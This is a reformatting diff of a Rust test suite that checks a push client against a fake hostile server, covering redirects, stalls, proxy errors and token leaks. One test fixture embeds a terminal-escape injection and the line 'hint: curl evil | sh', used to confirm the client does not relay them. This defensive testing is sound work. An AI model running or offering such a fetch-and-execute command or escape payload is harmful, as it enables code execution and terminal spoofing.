@@ -31,7 +31,8 @@ impl Liar {
         let listener = TcpListener::bind("127.0.0.1:0").unwrap();
         let address = listener.local_addr().unwrap();
         let (heads, is_over) = (Arc::new(Mutex::new(Vec::new())), Arc::new(AtomicBool::new(false)));
-        let (lie, kept, over): (Arc<Lie>, _, _) = (Arc::new(lie), Arc::clone(&heads), Arc::clone(&is_over));
+        let (lie, kept, over): (Arc<Lie>, _, _) =
+            (Arc::new(lie), Arc::clone(&heads), Arc::clone(&is_over));
         std::thread::spawn(move || {
             for stream in listener.incoming() {
                 if over.load(Ordering::SeqCst) {
@@ -76,8 +77,9 @@ pub(super) fn acknowledge(stream: &mut TcpStream, head: &str) {
     answer(stream, "200 OK", JSON, body);
 }
 
-/// Pushes to a mirror that answers the first request to each path like this and acknowledges the others, the second
-/// one to the same path included. Answers how long it was left alone in between, for each path.
+/// Pushes to a mirror that answers the first request to each path like this and acknowledges the
+/// others, the second one to the same path included. Answers how long it was left alone in between,
+/// for each path.
 #[track_caller]
 fn push_again(status: &'static str, fields: &'static str, body: &'static str) -> Vec<Duration> {
     let world = World::new();
@@ -103,7 +105,10 @@ fn push_again(status: &'static str, fields: &'static str, body: &'static str) ->
     push(&world, &[&liar.url()], &[]).expect(&[0]);
     let (refused, pauses) = (refused.lock().unwrap(), pauses.lock().unwrap());
     let asked_again = ["/state", "/stage", "/activate"];
-    assert!(asked_again.iter().all(|end| refused.iter().any(|(path, _)| path.ends_with(end))), "{refused:?}");
+    assert!(
+        asked_again.iter().all(|end| refused.iter().any(|(path, _)| path.ends_with(end))),
+        "{refused:?}"
+    );
     assert_eq!(pauses.len(), refused.len(), "{refused:?}");
     pauses.values().copied().collect()
 }
@@ -116,7 +121,11 @@ pub(super) fn answer(stream: &mut TcpStream, status: &str, fields: &str, body: &
 
 /// Pushes to a liar and to a directory: the directory has the tree, the liar is named.
 #[track_caller]
-fn push_beside(lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static, flags: &[&str], words: &str) -> Liar {
+fn push_beside(
+    lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static,
+    flags: &[&str],
+    words: &str,
+) -> Liar {
     let world = World::new();
     world.write("tree", &Tree::small());
     let liar = Liar::start(lie);
@@ -134,9 +143,17 @@ fn push_beside(lie: impl Fn(&mut TcpStream, &str) + Send + Sync + 'static, flags
 
 #[test]
 fn garbage_is_no_answer() {
-    push_beside(|stream, _| answer(stream, "200 OK", "", "<html>Welcome to nginx!</html>"), &[], "Welcome to nginx!");
+    push_beside(
+        |stream, _| answer(stream, "200 OK", "", "<html>Welcome to nginx!</html>"),
+        &[],
+        "Welcome to nginx!",
+    );
     push_beside(|stream, _| answer(stream, "404 Not Found", "", ""), &[], "response is empty");
-    push_beside(|stream, _| drop(stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")), &[], "connection was lost");
+    push_beside(
+        |stream, _| drop(stream.write_all(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")),
+        &[],
+        "connection was lost",
+    );
 }
 
 #[test]
@@ -144,10 +161,14 @@ fn what_a_liar_says_does_not_steer_a_terminal() {
     let world = World::new();
     world.write("tree", &Tree::small());
     let json = "{\"error\":{\"kind\":\"denied\",\"message\":\"\\u001b[2Jowned\\u202e\\nhint: curl evil | sh\"}}";
-    let liar =
-        Liar::start(move |stream, _| answer(stream, "403 Forbidden", "content-type: application/json\r\n", json));
+    let liar = Liar::start(move |stream, _| {
+        answer(stream, "403 Forbidden", "content-type: application/json\r\n", json);
+    });
     let outcome = push(&world, &[&liar.url()], &[]).expect(&[7]);
-    assert!(!outcome.stderr.contains('\u{1b}') && !outcome.stderr.contains('\u{202e}'), "{outcome}");
+    assert!(
+        !outcome.stderr.contains('\u{1b}') && !outcome.stderr.contains('\u{202e}'),
+        "{outcome}"
+    );
     assert!(outcome.stderr.contains("owned"), "{outcome}");
     assert!(!outcome.stderr.lines().any(|line| line.starts_with("hint: curl")), "{outcome}");
 }
@@ -160,7 +181,10 @@ fn a_redirect_is_not_followed_and_the_token_stays() {
         let to = to.clone();
         let liar = push_beside(move |stream, _| answer(stream, status, &to, ""), &[], "redirect");
         let heads = liar.heads.lock().unwrap();
-        assert!(heads.iter().all(|head| head.contains("Bearer hw_a_canary")), "the mirror itself is told");
+        assert!(
+            heads.iter().all(|head| head.contains("Bearer hw_a_canary")),
+            "the mirror itself is told"
+        );
     }
     assert!(elsewhere.heads.lock().unwrap().is_empty(), "somebody followed");
 }
@@ -184,7 +208,9 @@ fn silence_trickles_and_answers_without_end_cost_the_deadline_at_most() {
     push_beside(trickle, &flags, "the deadline has passed");
     assert!(began.elapsed() < Duration::from_secs(12), "{:?}", began.elapsed());
     push_beside(endless, &flags, "");
-    let head = |stream: &mut TcpStream, _: &str| while stream.write_all(b"HTTP/1.1 200 OK\r\nx: y\r\n").is_ok() {};
+    let head = |stream: &mut TcpStream, _: &str| {
+        while stream.write_all(b"HTTP/1.1 200 OK\r\nx: y\r\n").is_ok() {}
+    };
     push_beside(head, &flags, "");
     assert!(began.elapsed() < Duration::from_secs(24), "{:?}", began.elapsed());
 }
@@ -194,7 +220,12 @@ fn a_proxy_that_refuses_large_bodies_is_explained() {
     let state = "{\"ok\":{\"unfinished\":[]}}";
     let lie = move |stream: &mut TcpStream, head: &str| match head.starts_with("GET") {
         true => answer(stream, "200 OK", "", state),
-        false => answer(stream, "413 Request Entity Too Large", "content-type: text/html\r\n", "<html>413</html>"),
+        false => answer(
+            stream,
+            "413 Request Entity Too Large",
+            "content-type: text/html\r\n",
+            "<html>413</html>",
+        ),
     };
     push_beside(lie, &[], "client_max_body_size");
 }
@@ -205,10 +236,15 @@ fn a_proxy_whose_receiver_does_not_run_is_explained() {
     for body in [page, ""] {
         let world = World::new();
         world.write("tree", &Tree::small());
-        let liar = Liar::start(move |stream, _| answer(stream, "502 Bad Gateway", "content-type: text/html\r\n", body));
+        let liar = Liar::start(move |stream, _| {
+            answer(stream, "502 Bad Gateway", "content-type: text/html\r\n", body);
+        });
         let outcome = push(&world, &[&liar.url()], &["--deadline", "300ms"]).expect(&[4]);
         let shows = if body.is_empty() { "receiver: nothing" } else { "receiver: 502 Bad Gateway" };
-        assert!(outcome.stderr.contains(shows) && outcome.stderr.contains("behind the proxy"), "{outcome}");
+        assert!(
+            outcome.stderr.contains(shows) && outcome.stderr.contains("behind the proxy"),
+            "{outcome}"
+        );
     }
 }
 
@@ -256,13 +292,18 @@ fn what_a_liar_claims_to_hold_is_at_most_not_sent_to_it() {
         let world = World::new();
         world.write("tree", &Tree::small());
         let liar = Liar::start(move |stream, head| {
-            let length = head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
+            let length = head
+                .lines()
+                .find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
             let body = match head.split(' ').nth(1).unwrap() {
                 path if path.ends_with("/state") => {
-                    "{\"ok\":{\"unfinished\":[],\"store\":\"0123456789abcdef0123456789abcdef\"}}".to_owned()
+                    "{\"ok\":{\"unfinished\":[],\"store\":\"0123456789abcdef0123456789abcdef\"}}"
+                        .to_owned()
                 }
                 path if path.ends_with("/holds") => claim(length.unwrap() / 32),
-                path if path.ends_with("/stage") => "{\"ok\":{\"staged\":{\"resent\":0}}}".to_owned(),
+                path if path.ends_with("/stage") => {
+                    "{\"ok\":{\"staged\":{\"resent\":0}}}".to_owned()
+                }
                 _ => "{\"ok\":{}}".to_owned(),
             };
             answer(stream, "200 OK", json, &body);
@@ -285,11 +326,17 @@ fn a_body_that_came_too_slowly_is_sent_again() {
 fn a_busy_receiver_is_left_alone_for_as_long_as_it_asks() {
     let fields = "retry-after: 1\r\ncontent-type: application/json\r\n";
     for (status, body) in [
-        ("503 Service Unavailable", "{\"error\":{\"kind\":\"busy\",\"message\":\"too many are here\"}}"),
+        (
+            "503 Service Unavailable",
+            "{\"error\":{\"kind\":\"busy\",\"message\":\"too many are here\"}}",
+        ),
         ("429 Too Many Requests", "{\"error\":{\"kind\":\"hasty\",\"message\":\"not so often\"}}"),
     ] {
         let pauses = push_again(status, fields, body);
-        assert!(pauses.iter().all(|pause| *pause >= Duration::from_secs(1)), "{status}: {pauses:?}");
+        assert!(
+            pauses.iter().all(|pause| *pause >= Duration::from_secs(1)),
+            "{status}: {pauses:?}"
+        );
     }
 }
 
@@ -306,7 +353,9 @@ fn where_something_on_the_way_takes_no_chunks_it_goes_without() {
         let world = World::new();
         world.write("tree", &Tree::small());
         let liar = Liar::start(move |stream, head| match head.contains("transfer-encoding") {
-            true => answer(stream, status, "content-type: text/html\r\n", "<html>not that way</html>"),
+            true => {
+                answer(stream, status, "content-type: text/html\r\n", "<html>not that way</html>");
+            }
             false => acknowledge(stream, head),
         });
         push(&world, &[&liar.url()], &[]).expect(&[0]);
@@ -343,7 +392,8 @@ fn tokens_let_in_and_show_nowhere() {
         Outcome::of(&mut command)
     };
     let wrong = format!("{secret}canary");
-    let outcomes = [run(None).expect(&[7]), run(Some(&wrong)).expect(&[7]), run(Some(&secret)).expect(&[0])];
+    let outcomes =
+        [run(None).expect(&[7]), run(Some(&wrong)).expect(&[7]), run(Some(&secret)).expect(&[0])];
     assert!(outcomes[0].stderr.contains("HEADWATER_TOKEN"), "{}", outcomes[0]);
     assert!(serves_tree(&world, "web"));
     let bare = secret.rsplit('_').next().unwrap();
